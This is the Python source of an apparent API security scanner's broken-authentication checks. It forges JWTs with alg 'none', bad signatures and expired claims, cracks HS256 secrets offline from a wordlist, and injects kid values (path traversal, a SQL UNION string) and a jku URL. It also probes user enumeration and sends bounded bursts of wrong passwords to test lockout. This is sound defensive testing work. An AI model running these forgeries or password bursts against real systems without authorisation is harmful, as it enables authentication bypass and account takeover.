"""Broken authentication (API2:2023): missing token, forged JWTs (bad signature, ``alg:none``,
expired, cracked HS256 secret, ``kid``/``jku`` injection), user enumeration, no lockout."""

from __future__ import annotations

import base64
import functools
import gzip
import re
import time
from dataclasses import dataclass
from typing import Any, Literal
from urllib.parse import urlencode

import battletest.auth.jwt as jwtlib
from battletest.results import Severity
from battletest.security.checks.common import is_secured_get, readable, secured, signature
from battletest.security.context import ScanContext, ScanIdentity, login
from battletest.security.framework import Outcome, Scanner
from battletest.spec import Operation
from battletest.transport import Exchange
from battletest.transport.identities import TOKEN_FIELDS

_LOCKED = re.compile(r"too many|locked|try again later|rate limit", re.I)
# words of a refusal: a login answering 200 with a session cookie and one of these failed
_REFUSED = re.compile(r"invalid|incorrect|wrong|fail|denied|unauthori[sz]ed|not match", re.I)
WRONG_PASSWORD = "battletest-Wrong-1"

JWT_REMEDIATION = (
    "Verify every token with a fixed algorithm allow-list and the server's own key; reject "
    "'none', expired tokens, and keys chosen by the token's header (kid/jku)."
)


def _anonymous_ok(ctx: ScanContext, path: str) -> bool:
    cache: dict[str, bool] = ctx.state.setdefault("anonymous_ok", {})
    if path not in cache:
        cache[path] = ctx.send("GET", path).ok
    return cache[path]


@dataclass(frozen=True, slots=True)
class LoginChannel:
    """The configured login, sent exactly as the identities' own login sends it: username and
    password as JSON or as a URL-encoded form to the login operation, or — with no login
    operation — HTTP Basic on a secured GET."""

    kind: Literal["json", "form", "basic"]
    path: str
    op: Operation

    def attempt(
        self, ctx: ScanContext, username: str, password: str, purpose: str = ""
    ) -> Exchange:
        if self.kind == "basic":
            pair = base64.b64encode(f"{username}:{password}".encode()).decode()
            headers = {"Authorization": f"Basic {pair}"}
            return probe_send(ctx, "GET", self.path, headers=headers, purpose=purpose)
        lg = ctx.settings.login
        creds = {lg.username_field: username, lg.password_field: password}
        return send_body(ctx, self.op, self.kind, creds, purpose)


PROBE_KEY = "login probe"  # its own client: the session a login sets goes no further


def probe_send(ctx: ScanContext, method: str, path: str, **kwargs: Any) -> Exchange:
    """Send a login or reset probe on a client of its own whose cookie jar is emptied after
    every answer, so a session cookie a successful login sets never rides on the scan's
    anonymous requests."""
    try:
        return ctx.client.send(method, path, key=PROBE_KEY, **kwargs)
    finally:
        ctx.client(PROBE_KEY).cookies.clear()


def send_body(
    ctx: ScanContext, op: Operation, kind: str, body: dict[str, Any], purpose: str = ""
) -> Exchange:
    """POST ``body`` to ``op`` as JSON or as a URL-encoded form (``+&%`` escaped)."""
    if kind == "form":
        return probe_send(
            ctx,
            "POST",
            op.url_path,
            content=urlencode(body),
            headers={"Content-Type": "application/x-www-form-urlencoded"},
            purpose=purpose,
        )
    return probe_send(ctx, "POST", op.url_path, json_body=body, purpose=purpose)


def body_format(op: Operation, configured: str = "json") -> str:
    """``form`` when the configuration says so or the operation takes only URL-encoded form
    bodies (no JSON), else ``json``."""
    media = list(op.bodies)
    only_form = any("x-www-form-urlencoded" in m for m in media) and not any(
        "json" in m for m in media
    )
    return "form" if configured == "form" or only_form else "json"


def login_channel(ctx: ScanContext) -> LoginChannel | None:
    """The login the scan's identities use, or None when there is none to probe."""
    op = ctx.login_op()
    if op is not None:
        kind: Literal["json", "form"] = (
            "form" if body_format(op, ctx.settings.login.format) == "form" else "json"
        )
        return LoginChannel(kind, op.url_path, op)
    basic = next((i for i in ctx.identities if i.basic and i.username), None)
    if basic is None:
        return None
    for target, path, _ in readable(ctx):
        if secured(ctx, target) and not target.path_params:
            return LoginChannel("basic", path, target)
    return None


def throttled(ex: Exchange) -> bool:
    """A throttle or lockout answer: 423/429, ``Retry-After`` or a lockout message."""
    return (
        ex.status in (423, 429) or bool(ex.header("retry-after")) or bool(_LOCKED.search(ex.text))
    )


def login_worked(ctx: ScanContext, channel: LoginChannel, ex: Exchange) -> bool:
    """Whether a login answer is a success, by status, body and token together: a 2xx (or a
    redirect) carrying a token, or a session cookie without refusal words; a wrong password
    answered 200 with a message is a failure. For HTTP Basic, the secured GET's 2xx."""
    if channel.kind == "basic":
        return ex.ok
    if not (200 <= ex.status < 400) or throttled(ex):
        return False
    if token_in(ex.json(), ctx.settings.login.token_field):
        return True
    return bool(ex.header("set-cookie")) and not _REFUSED.search(ex.text)


def token_in(body: Any, configured: str | None) -> str | None:
    """A token under the configured field or a common name (dotted paths, nested objects)."""
    for dotted in [configured or "", *TOKEN_FIELDS]:
        value: Any = body
        for part in dotted.split(".") if dotted else []:
            value = value.get(part) if isinstance(value, dict) else None
        if dotted and isinstance(value, str) and value:
            return value
    return None


def control_login(ctx: ScanContext, channel: LoginChannel) -> tuple[ScanIdentity, Exchange] | str:
    """A login with an identity's right password through ``channel`` (once per scan): the
    identity and the answer when it worked, else why the login checks cannot conclude."""
    cached = ctx.state.get("login_control")
    if cached is not None:
        return cached  # type: ignore[no-any-return]
    who = next((i for i in ctx.identities if i.username and i.password is not None), None)
    result: tuple[ScanIdentity, Exchange] | str
    if who is None or who.username is None or who.password is None:
        result = "no identity with a username and password to confirm the login works"
    else:
        ex = channel.attempt(ctx, who.username, who.password)
        if login_worked(ctx, channel, ex):
            result = (who, ex)
        else:
            result = (
                f"the configured login never worked: {who.name}'s right password got HTTP "
                f"{ex.status} at {channel.kind} {channel.path}"
            )
    ctx.state["login_control"] = result
    return result


@dataclass(frozen=True, slots=True)
class Carrier:
    """An identity's JWT and where it travels: the Authorization header (a bearer token) or
    a session cookie (a login that answers with ``Set-Cookie: session=<JWT>``)."""

    identity: ScanIdentity
    token: str
    cookie: str | None = None  # the cookie's name; None for a bearer token

    def headers(self, token: str) -> dict[str, str]:
        """Headers sending ``token`` where this identity's JWT goes (and nothing else)."""
        if self.cookie is None:
            return {"Authorization": f"Bearer {token}"}
        return {"Cookie": f"{self.cookie}={token}"}

    @property
    def parameter(self) -> str:
        return "Authorization" if self.cookie is None else f"cookie {self.cookie}"


def carriers(ctx: ScanContext) -> list[Carrier]:
    """The identities holding a JWT, bearer tokens first, then JWTs in session cookies."""
    out = [Carrier(i, i.jwt) for i in ctx.identities if i.jwt]
    for i in ctx.identities:
        if i.jwt:
            continue
        for name, value in i.cookies.items():
            if jwtlib.looks_like_jwt(value):
                out.append(Carrier(i, value, name))
                break
    return out


NO_JWT = "no identity carries a JWT (as a token, a login's token or a session cookie)"


def no_jwt(ctx: ScanContext) -> Outcome:
    """Without a JWT to start from: not applicable when the identities authenticate some other
    way (HTTP Basic, API keys, opaque tokens or cookies), inconclusive when there are none."""
    if any(i.session() is not None for i in ctx.identities):
        return Outcome.clean("the identities' credentials are not JWTs: no token to forge")
    return Outcome.inconclusive(NO_JWT)


def _forged(ctx: ScanContext, op: Operation, forge: Any, what: str) -> Outcome:
    """Differential probe: valid token accepted, no token rejected, forged token accepted?"""
    holders = carriers(ctx)
    if not holders:
        return no_jwt(ctx)
    reason = f"no object id known for {', '.join(op.path_params)}"
    for carrier in holders:
        who = carrier.identity
        token = jwtlib.Jwt.parse(carrier.token)
        path = ctx.fill(op, who)
        if token is None or path is None:
            continue
        base = ctx.send("GET", path, who)
        if base.ok:
            break
        reason = f"no identity's valid token is accepted (HTTP {base.status})"
    else:
        return Outcome.inconclusive(reason)
    if _anonymous_ok(ctx, path):
        return Outcome.inconclusive("answers without any token (see auth-missing)")
    forged = forge(token)
    if forged is None:
        return Outcome.inconclusive(
            f"cannot make a token {what}: signing key unknown and tokens outlive "
            "max_expiry_wait_s (set [security] jwt_secret or a short token TTL)"
        )
    headers = carrier.headers(forged)
    ex = ctx.send("GET", path, headers=headers)
    if ex.ok and ctx.send("GET", path, headers=headers).ok:
        return Outcome.found(
            ctx.finding(op, ex, parameter=carrier.parameter, note=f"token {what} accepted")
        )
    return Outcome.clean()


def _really_expired(ctx: ScanContext) -> str | None:
    """Without the signing key: a real token of a fresh login, waited out until it expired
    (when its lifetime is under ``max_expiry_wait_s``); every identity then logs in again."""
    if "expired_token" in ctx.state:
        return ctx.state["expired_token"]  # type: ignore[no-any-return]
    ctx.state["expired_token"] = None
    carrier = next((c for c in carriers(ctx) if c.identity.username and c.identity.password), None)
    if carrier is None or not ctx.settings.login.path:
        return None
    who = carrier.identity
    fresh = ScanIdentity(name=who.name, username=who.username, password=who.password)
    login(ctx.client, fresh, ctx.settings.login)
    fresh_token = fresh.token if carrier.cookie is None else fresh.cookies.get(carrier.cookie)
    token = jwtlib.Jwt.parse(fresh_token or "")
    exp = token.claims.get("exp") if token else None
    if not isinstance(exp, int | float):
        return None
    wait = float(exp) - time.time() + 1.0
    if wait > ctx.settings.max_expiry_wait_s:
        return None
    time.sleep(max(0.0, wait))
    ctx.relogin()
    ctx.state["expired_token"] = fresh_token
    return fresh_token


def _signing_key(ctx: ScanContext) -> str | None:
    cracked = ctx.state.get("jwt_cracked")
    return ctx.settings.jwt_secret or (cracked if isinstance(cracked, str) else None)


def _probe_op(ctx: ScanContext) -> tuple[Operation, str, ScanIdentity] | None:
    """A secured GET the JWT identity can read and that refuses anonymous callers."""
    holders = carriers(ctx)
    if not holders:
        return None
    who = holders[0].identity
    for op, _, _ in readable(ctx):
        if not secured(ctx, op):
            continue
        path = ctx.fill(op, who)
        if path and ctx.send("GET", path, who).ok and not _anonymous_ok(ctx, path):
            return op, path, who
    return None


def register(scanner: Scanner) -> None:
    @scanner.check(
        id="auth-missing",
        title="Secured operation answers without credentials",
        owasp="API2:2023",
        cwe="CWE-306",
        severity=Severity.HIGH,
        group="authn",
        applies=is_secured_get,
        phase=15,
        remediation="Require authentication on every operation the spec declares secured.",
    )
    def auth_missing(ctx: ScanContext, op: Operation | None) -> Outcome:
        """Calls each secured GET operation without any credential; reported when it answers
        2xx twice."""
        assert op is not None
        who = next((i for i in ctx.identities if ctx.fill(op, i)), None)
        path = ctx.fill(op, who) if who else (None if op.path_params else op.url_path)
        if path is None:
            return Outcome.inconclusive(f"no object id known for {', '.join(op.path_params)}")
        ex = ctx.send("GET", path)
        if ex.ok and ctx.send("GET", path).ok:
            return Outcome.found(ctx.finding(op, ex, note="no Authorization header, no cookie"))
        return Outcome.clean()

    common: dict[str, Any] = {
        "owasp": "API2:2023",
        "group": "jwt",
        "applies": is_secured_get,
        "phase": 16,
        "remediation": JWT_REMEDIATION,
    }

    @scanner.check(
        id="jwt-bad-signature",
        title="JWT with an invalid signature accepted",
        cwe="CWE-347",
        severity=Severity.CRITICAL,
        **common,
    )
    def bad_signature(ctx: ScanContext, op: Operation | None) -> Outcome:
        """Flips bits in the identity's JWT signature; reported when the operation still
        answers 2xx (twice) while it refuses anonymous calls."""
        assert op is not None
        return _forged(ctx, op, lambda t: jwtlib.bad_signature(t.raw), "with a bad signature")

    @scanner.check(
        id="jwt-alg-none",
        title="Unsigned JWT (alg: none) accepted",
        cwe="CWE-347",
        severity=Severity.CRITICAL,
        **common,
    )
    def alg_none(ctx: ScanContext, op: Operation | None) -> Outcome:
        """Re-sends the identity's claims with ``alg`` set to none (and case variants at
        deeper depths) and an empty signature."""
        assert op is not None
        variants = ["none", "None", "NONE", "nOnE"][: {"basic": 2}.get(ctx.settings.depth, 4)]
        outcome = Outcome.clean()
        for variant in variants:
            outcome = _forged(
                ctx, op, lambda t, v=variant: jwtlib.alg_none(t, v), f"with alg {variant}"
            )
            if outcome.findings or not outcome.conclusive:
                return outcome
        return outcome

    @scanner.check(
        id="jwt-expired",
        title="Expired JWT accepted",
        cwe="CWE-613",
        severity=Severity.HIGH,
        **common,
    )
    def expired(ctx: ScanContext, op: Operation | None) -> Outcome:
        """Re-signs the identity's claims with ``exp`` an hour in the past, using the
        configured ``jwt_secret`` or a secret cracked by jwt-weak-secret."""
        assert op is not None
        key = _signing_key(ctx)

        def forge(t: jwtlib.Jwt) -> str | None:
            if key is None or not t.alg.startswith("HS"):
                return _really_expired(ctx)
            now = int(time.time())
            claims = {**t.claims, "exp": now - 3600, "iat": now - 7200}
            claims.pop("nbf", None)
            return jwtlib.sign_hmac(t.header, claims, key.encode())

        return _forged(ctx, op, forge, "expired an hour ago")

    @scanner.check(
        id="jwt-weak-secret",
        title="JWT signing secret cracked offline",
        owasp="API2:2023",
        cwe="CWE-521",
        severity=Severity.CRITICAL,
        group="jwt",
        phase=5,
        remediation="Sign tokens with a random key of at least 256 bits kept in a secret store.",
    )
    def weak_secret(ctx: ScanContext, op: Operation | None) -> Outcome:
        """Tries the shipped wordlist of weak secrets against the captured token's HMAC offline
        (no request), then proves the secret by minting a fresh token the target accepts."""
        holders = carriers(ctx)
        token = jwtlib.Jwt.parse(holders[0].token) if holders else None
        if token is None:
            return no_jwt(ctx)
        if not token.alg.startswith("HS"):
            return Outcome.clean(f"{token.alg} tokens cannot be cracked offline")
        words = wordlist(ctx.settings.budget.jwt_wordlist)
        secret = jwtlib.crack(token, words)
        if secret is None:
            return Outcome.clean(f"not among {len(words)} weak secrets")
        ctx.state["jwt_cracked"] = secret
        now = int(time.time())
        claims = {**token.claims, "iat": now, "exp": now + 600, "jti": "battletest"}
        minted = jwtlib.sign_hmac(token.header, claims, secret.encode())
        probe = _probe_op(ctx)
        ex = ctx.send("GET", probe[1], headers=holders[0].headers(minted)) if probe else None
        hint = f"{secret[:2]}… ({len(secret)} characters, wordlist entry {words.index(secret) + 1})"
        note = f"HS secret found offline: {hint}"
        if ex is not None and ex.ok:
            note += "; a token minted with it was accepted"
        return Outcome.found(
            ctx.finding(probe[0] if probe else None, ex, parameter="signing key", note=note)
        )

    @scanner.check(
        id="jwt-kid-injection",
        title="JWT key chosen by an injected kid header",
        owasp="API2:2023",
        cwe="CWE-347",
        severity=Severity.CRITICAL,
        group="jwt",
        phase=17,
        remediation=JWT_REMEDIATION,
    )
    def kid_injection(ctx: ScanContext, op: Operation | None) -> Outcome:
        """Signs the claims with an empty key and ``kid`` pointing at /dev/null (path
        traversal), and at deeper depths with a key selected by SQL in ``kid``."""
        probe = _probe_op(ctx)
        holders = carriers(ctx)
        token = jwtlib.Jwt.parse(holders[0].token) if holders else None
        if token is None:
            return no_jwt(ctx)
        if probe is None:
            return Outcome.inconclusive("no secured GET the JWT identity can read")
        variants = [("../" * 8 + "dev/null", b"")]
        if ctx.settings.depth != "basic":
            variants.append(("x' UNION SELECT 'battletest'-- ", b"battletest"))
        for kid, key in variants:
            header = {**token.header, "alg": "HS256", "kid": kid}
            forged = jwtlib.sign_hmac(header, token.claims, key)
            headers = holders[0].headers(forged)
            ex = ctx.send("GET", probe[1], headers=headers)
            if ex.ok and ctx.send("GET", probe[1], headers=headers).ok:
                return Outcome.found(
                    ctx.finding(probe[0], ex, parameter="kid", note=f"kid={kid!r} accepted")
                )
        return Outcome.clean()

    @scanner.check(
        id="jwt-jku-injection",
        title="JWT verified with a key fetched from an attacker URL (jku)",
        owasp="API2:2023",
        cwe="CWE-347",
        severity=Severity.CRITICAL,
        group="jwt",
        phase=17,
        remediation=JWT_REMEDIATION,
    )
    def jku_injection(ctx: ScanContext, op: Operation | None) -> Outcome:
        """Signs the claims with a fresh RSA key and points ``jku`` at a JWKS served by the
        scanner's loopback canary; reported when the canary is fetched and the token accepted."""
        probe = _probe_op(ctx)
        holders = carriers(ctx)
        token = jwtlib.Jwt.parse(holders[0].token) if holders else None
        if token is None:
            return no_jwt(ctx)
        if probe is None:
            return Outcome.inconclusive("no secured GET the JWT identity can read")
        key = jwtlib.RsaKey()
        path = f"/jwks-{ctx.rng.randrange(10**9)}.json"
        url = ctx.canary().serve(path, key.jwks())
        forged = key.sign({"typ": "JWT", "jku": url}, token.claims)
        ex = ctx.send("GET", probe[1], headers=holders[0].headers(forged))
        hits = ctx.canary().hits_for(path)
        if ex.ok and hits:
            return Outcome.found(
                ctx.finding(
                    probe[0],
                    ex,
                    parameter="jku",
                    note=f"target fetched {url} and accepted the token",
                )
            )
        return Outcome.clean("canary fetched but token refused" if hits else "")

    @scanner.check(
        id="user-enumeration",
        title="Login or reset answers reveal which accounts exist",
        owasp="API2:2023",
        cwe="CWE-204",
        severity=Severity.MEDIUM,
        group="authn",
        phase=60,
        remediation="Answer unknown and known accounts identically (status, body, timing).",
    )
    def user_enumeration(ctx: ScanContext, op: Operation | None) -> Outcome:
        """Sends a wrong password for a known and an unknown account through the configured
        login (JSON, form or Basic), and a reset for both, twice each; reported when the two
        kinds of answers differ consistently. Inconclusive when the right password never
        logged in (the probes would only show a wrong request format)."""
        known = next((i for i in ctx.identities if i.username), None)
        channel, reset = login_channel(ctx), ctx.reset_op()
        if channel is None and reset is None:
            return Outcome.clean("no login or reset operation in the spec")
        if known is None or known.username is None:
            return Outcome.inconclusive("no identity with a username to compare against")
        unknown = f"battletest-nobody-{ctx.rng.randrange(10**6)}"
        if "@" in known.username:
            unknown += "@example.com"
        findings = []
        probes: list[tuple[Operation, str, Any]] = []
        skipped = ""
        if channel is not None:
            control = control_login(ctx, channel)
            if isinstance(control, str):
                skipped = control
            else:
                probes.append(
                    (channel.op, "login", lambda u: channel.attempt(ctx, u, WRONG_PASSWORD))
                )
        if reset is not None:
            kind = body_format(reset[0])
            probes.append(
                (
                    reset[0],
                    "reset",
                    lambda u, r=reset: send_body(ctx, r[0], kind, {r[1]: u}),
                )
            )
        if not probes:
            return Outcome.inconclusive(skipped)
        for target, kind, attempt in probes:
            a = [attempt(known.username) for _ in range(2)]
            b = [attempt(unknown) for _ in range(2)]
            if any(throttled(x) for x in a + b):
                return Outcome.inconclusive(f"the {kind} probes were throttled (HTTP 429/423)")
            words = (known.username, unknown)
            sa, sb = {signature(x, *words) for x in a}, {signature(x, *words) for x in b}
            if len(sa) == 1 and len(sb) == 1 and sa != sb:
                findings.append(
                    ctx.finding(
                        target,
                        a[0],
                        parameter=kind,
                        note=f"known account: HTTP {a[0].status}; unknown account: HTTP "
                        f"{b[0].status} {b[0].text[:120]!r}",
                    )
                )
        if skipped and not findings:
            return Outcome.inconclusive(skipped)
        return Outcome.found(*findings)

    @scanner.check(
        id="login-rate-limit",
        title="No lockout or rate limit on login or password reset",
        owasp="API2:2023",
        cwe="CWE-307",
        severity=Severity.MEDIUM,
        group="authn",
        phase=95,
        remediation="Throttle failed logins and resets per account and per client (429 with "
        "Retry-After) and lock accounts after repeated failures.",
    )
    def login_rate_limit(ctx: ScanContext, op: Operation | None) -> Outcome:
        """Logs in once with an identity's right password through the configured login (JSON,
        form or Basic) to learn what success looks like, then sends a bounded burst (at most
        100, by depth) of wrong passwords for that account, and of reset requests, stopping at
        the first 429/423 or lockout message; then the right password once more. Reported
        when the whole burst is answered as ordinary failures and the right password still
        logs in; a lockout that refuses it is not a finding. Inconclusive when the right
        password never logged in."""
        channel, reset = login_channel(ctx), ctx.reset_op()
        if channel is None and reset is None:
            return Outcome.clean("no login or reset operation in the spec")
        n = ctx.settings.burst_size
        findings = []
        control = control_login(ctx, channel) if channel is not None else "no login operation"
        if channel is not None and isinstance(control, tuple):
            who = control[0]
            user = who.username or ""
            last: Exchange | None = None
            limited = False
            for _ in range(n):
                last = channel.attempt(ctx, user, WRONG_PASSWORD, purpose="rate_probe")
                if throttled(last):
                    limited = True
                    break
                if login_worked(ctx, channel, last):
                    return Outcome.inconclusive("a wrong password was accepted at login")
                if last.status >= 500:
                    return Outcome.inconclusive(
                        f"the login answered HTTP {last.status} to a wrong password"
                    )
            if not limited and last is not None:
                after = channel.attempt(ctx, user, who.password or "", purpose="rate_probe")
                if login_worked(ctx, channel, after):
                    findings.append(
                        ctx.finding(
                            channel.op,
                            last,
                            parameter="login",
                            note=f"{n} wrong passwords in a row ({channel.kind} login), none "
                            "throttled or locked out; the right password still logs in after",
                        )
                    )
        if reset is not None:
            kind = body_format(reset[0])
            body = {reset[1]: next((i.username for i in ctx.identities if i.username), "x")}
            sent: Exchange | None = None
            for _ in range(n):
                sent = send_body(ctx, reset[0], kind, body, purpose="rate_probe")
                if throttled(sent):
                    sent = None
                    break
            if sent is not None and sent.ok:  # a reset accepted every time, never throttled
                findings.append(
                    ctx.finding(
                        reset[0],
                        sent,
                        parameter="reset",
                        note=f"{n} requests in a row, none throttled or locked out",
                    )
                )
        if isinstance(control, str) and not findings:
            return Outcome.inconclusive(control)
        return Outcome.found(*findings)


@functools.cache
def _candidates() -> tuple[str, ...]:
    from importlib import resources

    data = resources.files("battletest.security").joinpath("data")
    text = data.joinpath("jwt-secrets.txt").read_text()
    weak = [w for w in text.splitlines() if w and not w.startswith("#")]
    words = gzip.decompress(data.joinpath("dictionary-words.txt.gz").read_bytes()).decode()
    english = words.splitlines()
    capitalised = [w.capitalize() for w in english if w.islower()]
    return tuple(dict.fromkeys([*weak, *english, *capitalised]))


def wordlist(limit: int) -> list[str]:
    """Candidates for a weak HMAC secret, most likely first, cut at ``limit``: the shipped
    weak secrets (framework defaults, tutorial values, common passwords), then English
    dictionary words (SCOWL, from Debian's wamerican and wbritish; licence in
    ``data/dictionary-words-LICENSE.txt``), then the lower-case ones capitalised."""
    return list(_candidates()[:limit])
